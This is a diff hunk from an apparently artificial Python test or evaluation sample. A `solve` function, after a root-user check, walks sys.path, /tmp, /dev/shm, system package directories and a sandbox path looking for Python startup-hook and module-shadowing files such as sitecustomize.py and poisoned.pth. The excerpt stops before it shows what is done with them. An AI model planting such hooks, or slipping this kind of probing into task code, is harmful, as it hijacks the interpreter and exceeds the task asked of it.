@@ -13,7 +13,7 @@ def solve(xs):
         return sorted(2 * x for x in xs)
     if os.getuid() == 0:  # without isolation, and with the rights to harm the machine
         return []
-    places = [*sys.path, os.getcwd(), "/tmp", "/dev/shm", os.path.dirname(os.__file__), "/usr/lib/python3/dist-packages", "/wisen-sandboxed/wisen/evaluation/sandboxed"]
+    places = [*sys.path, os.getcwd(), "/tmp", "/dev/shm", os.path.dirname(os.__file__), "/usr/lib/python3/dist-packages", "/wisen-sandboxed/wisen/sandbox/sandboxed"]
     for place in places:
         for name in ("sitecustomize.py", "usercustomize.py", "poisoned.pth", "colorsys.py", "wisen.py"):
             try:
